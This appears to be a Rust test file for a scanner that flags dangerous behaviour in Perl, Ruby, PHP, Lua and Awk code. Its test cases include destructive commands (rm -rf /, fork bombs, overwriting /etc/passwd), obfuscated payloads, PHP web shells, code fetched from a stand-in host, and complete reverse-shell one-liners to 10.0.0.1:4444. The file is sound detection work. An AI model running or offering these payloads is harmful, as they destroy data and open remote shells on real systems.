use super::*;

#[test]
fn what_dangerous_perl_does_is_found() {
    assert_found(
        Language::Perl,
        &[
            ("system(\"rm -rf /\");", "shell rm -rf /"),
            ("system('rm', '-rf', '/')", "program rm -rf /"),
            ("exec '/bin/sh'", "shell /bin/sh"),
            ("print `cat /etc/shadow`", "shell cat /etc/shadow"),
            ("my $o = qx{id};", "shell id"),
            ("my $c = 'rm'; my $d = ' -rf /'; system($c . $d)", "shell rm -rf /"),
            ("$c = \"rm\"; system \"$c -rf /\"", "shell rm -rf /"),
            ("unlink '/etc/passwd'", "Delete /etc/passwd"),
            ("use File::Path; rmtree('/home')", "Delete /home recursive"),
            (
                "use File::Path qw(remove_tree); remove_tree('/etc', '/usr')",
                "Delete /usr recursive",
            ),
            ("open(F, '>', '/etc/passwd'); print F 'x'", "Overwrite /etc/passwd"),
            ("open(F, '>>/etc/crontab')", "Write /etc/crontab"),
            ("open(F, '|sh')", "shell sh"),
            ("open(my $f, '-|', 'cat /etc/shadow')", "shell cat /etc/shadow"),
            ("chmod 04755, '/bin/bash'", "Permission /bin/bash setuid"),
            ("kill 9, -1", "Kill -1 all"),
            ("fork while fork", "Exhaust processes endless"),
            ("while(1){ fork }", "Exhaust processes endless"),
            ("use MIME::Base64; system(decode_base64('cm0gLXJmIC8='))", "shell rm -rf /"),
            ("system(pack('H*', '726d202d7266202f'))", "shell rm -rf /"),
            ("eval(pack('H*', '7072696e74'))", "code print"),
            ("system(scalar reverse('/ fr- mr'))", "shell rm -rf /"),
            ("system(chr(114).chr(109))", "shell rm"),
            ("system(join('', 'rm', ' /'))", "shell rm /"),
            (
                "use Socket;$i=\"10.0.0.1\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};",
                "ReverseShell",
            ),
            ("use LWP::Simple; eval(get('http://x.example'))", "NetworkCode"),
            ("use POSIX; POSIX::setuid(0); exec '/bin/sh'", "Privilege root"),
        ],
    );
}

#[test]
fn what_dangerous_ruby_does_is_found() {
    assert_found(
        Language::Ruby,
        &[
            ("system('rm -rf /')", "shell rm -rf /"),
            ("system 'rm', '-rf', '/'", "program rm -rf /"),
            ("exec \"/bin/sh\"", "shell /bin/sh"),
            ("puts `id`", "shell id"),
            ("%x(rm -rf /)", "shell rm -rf /"),
            ("Kernel.exec('id')", "shell id"),
            ("IO.popen('id').read", "shell id"),
            ("require 'open3'; Open3.capture3('rm -rf /')", "shell rm -rf /"),
            ("require 'fileutils'; FileUtils.rm_rf('/')", "Delete / recursive"),
            ("FileUtils.rm_rf(Dir.home)", "Delete ~ recursive"),
            ("FileUtils.rm_r ENV['HOME']", "Delete ~ recursive"),
            ("File.delete('/etc/passwd')", "Delete /etc/passwd"),
            ("File.write('/etc/passwd', '')", "Overwrite /etc/passwd"),
            ("File.open('/etc/crontab', 'a') { |f| f.puts 'x' }", "Write /etc/crontab"),
            ("File.chmod(04755, '/bin/bash')", "Permission /bin/bash setuid"),
            ("loop { fork }", "Exhaust processes endless"),
            ("fork while fork", "Exhaust processes endless"),
            ("require 'base64'; system(Base64.decode64('cm0gLXJmIC8='))", "shell rm -rf /"),
            ("system(['726d202d7266202f'].pack('H*'))", "shell rm -rf /"),
            ("eval('cHV0cw=='.unpack1('m'))", "code puts"),
            ("system('/ fr- mr'.reverse)", "shell rm -rf /"),
            ("a = 'rm'\nsystem(\"#{a} -rf /\")", "shell rm -rf /"),
            ("c = 'rm' + ' -rf /'\nsystem c", "shell rm -rf /"),
            (
                "require 'socket'; f=TCPSocket.open('10.0.0.1',4444).to_i;exec sprintf('/bin/sh -i <&%d >&%d 2>&%d',f,f,f)",
                "ReverseShell 10.0.0.1:4444",
            ),
            ("require 'net/http'; eval(Net::HTTP.get(URI('http://x.example')))", "NetworkCode"),
            ("Process.kill('KILL', -1)", "Kill -1 all"),
        ],
    );
}

#[test]
fn what_dangerous_php_does_is_found() {
    assert_found(
        Language::Php,
        &[
            ("<?php system('rm -rf /'); ?>", "shell rm -rf /"),
            ("exec('id');", "shell id"),
            ("shell_exec(\"cat /etc/shadow\");", "shell cat /etc/shadow"),
            ("passthru('id');", "shell id"),
            ("echo `id`;", "shell id"),
            ("$p = popen('id', 'r');", "shell id"),
            ("proc_open('/bin/sh', $d, $p);", "shell /bin/sh"),
            ("unlink('/etc/passwd');", "Delete /etc/passwd"),
            ("file_put_contents('/etc/passwd', '');", "Overwrite /etc/passwd"),
            ("fopen('/etc/crontab', 'a');", "Write /etc/crontab"),
            ("eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));", "code system('id');"),
            ("eval(gzinflate(base64_decode('x')));", "DecodedCode  hidden"),
            ("eval(str_rot13('flfgrz'));", "code system"),
            ("<?php system($_GET['c']); ?>", "NetworkCode"),
            ("<?php eval($_POST['x']);", "NetworkCode"),
            ("$c = 'rm'; $c .= ' -rf /'; system($c);", "shell rm -rf /"),
            ("$a = 'rm'; system(\"$a -rf /\");", "shell rm -rf /"),
            ("system(strrev('/ fr- mr'));", "shell rm -rf /"),
            ("system(hex2bin('726d202f'));", "shell rm /"),
            (
                "$s=fsockopen('10.0.0.1',4444);exec('/bin/sh -i <&3 >&3 2>&3');",
                "ReverseShell 10.0.0.1:4444",
            ),
            ("eval(file_get_contents('http://x.example/a'));", "NetworkCode"),
            ("mysqli_query($c, 'DROP TABLE users');", "Remote DROP TABLE users all"),
            ("while(1){ pcntl_fork(); }", "Exhaust processes endless"),
            ("chmod('/etc/shadow', 0777);", "Permission /etc/shadow public"),
        ],
    );
}

#[test]
fn what_dangerous_lua_does_is_found() {
    assert_found(
        Language::Lua,
        &[
            ("os.execute('rm -rf /')", "shell rm -rf /"),
            ("os.execute(\"rm\" .. \" -rf /\")", "shell rm -rf /"),
            ("local c = 'rm -rf /'\nos.execute(c)", "shell rm -rf /"),
            ("io.popen('id'):read('*a')", "shell id"),
            ("os.remove('/etc/passwd')", "Delete /etc/passwd"),
            ("local f = io.open('/etc/passwd', 'w')", "Overwrite /etc/passwd"),
            ("os.execute(string.char(114, 109))", "shell rm"),
            ("os.execute(string.reverse('/ fr- mr'))", "shell rm -rf /"),
            ("os.execute([[rm -rf /]])", "shell rm -rf /"),
            ("load('os.execute(\"id\")')()", "code os.execute(\"id\")"),
            ("os.execute('\\114\\109')", "shell rm"),
            (
                "require('socket');t=socket.tcp();t:connect('10.0.0.1','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');",
                "ReverseShell 10.0.0.1:4444",
            ),
        ],
    );
}

#[test]
fn what_dangerous_awk_does_is_found() {
    assert_found(
        Language::Awk,
        &[
            ("BEGIN { system(\"rm -rf /\") }", "shell rm -rf /"),
            ("BEGIN { system(\"rm\" \" -rf /\") }", "shell rm -rf /"),
            ("BEGIN { c = \"rm -rf /\"; system(c) }", "shell rm -rf /"),
            ("BEGIN { \"id\" | getline x; print x }", "shell id"),
            (
                "BEGIN { while ((\"cat /etc/shadow\" | getline l) > 0) print l }",
                "shell cat /etc/shadow",
            ),
            ("BEGIN { print \"rm -rf /\" | \"/bin/sh\" }", "shell /bin/sh"),
            ("BEGIN { print \"x\" > \"/etc/passwd\" }", "Overwrite /etc/passwd"),
            ("{ print >> \"/etc/crontab\" }", "Write /etc/crontab"),
            (
                "BEGIN {s = \"/inet/tcp/0/10.0.0.1/4444\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}",
                "ReverseShell /inet/tcp/0/10.0.0.1/4444",
            ),
        ],
    );
}

#[test]
fn ordinary_programs_are_quiet() {
    assert_quiet(
        Language::Perl,
        &[
            "print \"hello\\n\";",
            "while (<>) { s/a/b/g; print }",
            "my %h; $h{$_}++ for @ARGV; print join(',', keys %h)",
            "open(my $f, '<', 'a.txt') or die; while (my $l = <$f>) { print $l }",
            "my @s = sort { $a <=> $b } @x;",
            "use JSON; print encode_json({a => 1})",
            "unlink 'tmp.txt'",
            "eval { die 'x' }; print $@ if $@",
            "$x = reverse $y",
            "my $pid = fork(); if ($pid == 0) { exit } waitpid($pid, 0)",
            "system('ls')",
            "print exp(1), \"\\n\"",
            "sub get { return shift->{x} }",
            "kill 'TERM', $pid",
        ],
    );
    assert_quiet(
        Language::Ruby,
        &[
            "puts 'hello'",
            "File.read('a.txt').each_line { |l| puts l }",
            "[1, 2].map { |x| x * 2 }",
            "system('ls')",
            "require 'json'; puts JSON.parse(File.read('a.json'))['x']",
            "File.write('out.txt', 'x')",
            "FileUtils.rm_rf('build')",
            "class A\n  def exec\n    1\n  end\nend",
            "puts \"#{1 + 1}\"",
            "model.eval",
            "spec.files = `git ls-files`.split",
            "loop do\n  break\nend",
            "Process.kill('TERM', pid)",
            "x = %w[a b c]",
            "puts 5 % 3",
        ],
    );
    assert_quiet(
        Language::Php,
        &[
            "<?php echo 'hi'; ?>",
            "<?php $x = json_decode(file_get_contents('a.json'), true);",
            "<?php file_put_contents('out.txt', 'x');",
            "<?php foreach ($a as $b) { echo $b; }",
            "<?php $r = $pdo->query('SELECT * FROM users');",
            "<?php $s = preg_replace('/a/', 'b', $x);",
            "<?php exec('git status');",
            "<?php unlink('tmp.txt');",
            "<?php $curl->exec();",
            "<?php require 'a.php';",
            "<html><?= $x ?></html>",
        ],
    );
    assert_quiet(
        Language::Lua,
        &[
            "print('hello')",
            "local f = io.open('a.txt', 'r')",
            "for i = 1, 10 do print(i) end",
            "os.execute('ls')",
            "print(os.time())",
            "local t = {}\nt[#t + 1] = 1",
            "function f(x) return x end",
            "print('a' .. 'b')",
            "string.format('%d', 1)",
            "require('socket')",
        ],
    );
    assert_quiet(
        Language::Awk,
        &[
            "{ print $1 }",
            "BEGIN { FS = \":\" } { print $1, $3 }",
            "NR > 1 && $3 > 5 { s += $3 } END { print s }",
            "/a|b/ { n++ }",
            "{ gsub(/a/, \"b\"); print }",
            "{ a[$1]++ } END { for (k in a) print k, a[k] }",
            "{ print > \"out.txt\" }",
            "{ print | \"sort\" }",
            "length > 80",
            "$1 ~ /x/ || $2 > 3 { print }",
        ],
    );
}

#[test]
fn noise_is_survived() {
    for language in [Language::Perl, Language::Ruby, Language::Php, Language::Lua, Language::Awk] {
        for open in [
            "(",
            "f(",
            "[",
            "\"",
            "system(",
            "a.",
            "$a.",
            "<<EOT\n",
            "%x(",
            "q(",
            "\"x\" ",
            "chr(",
            "while(1){",
            "\"#{",
            "\\",
        ] {
            acts(language, open.repeat(3000).as_bytes());
        }
        for seed in 1..40 {
            acts(language, &super::robustness::noise(seed * 7919, 400));
        }
        let doubling =
            format!("$a = \"xxxxxxxx\";{}", "$a = $a . $a . $a;\na = a + a + a\n".repeat(300));
        acts(language, doubling.as_bytes());
    }
}
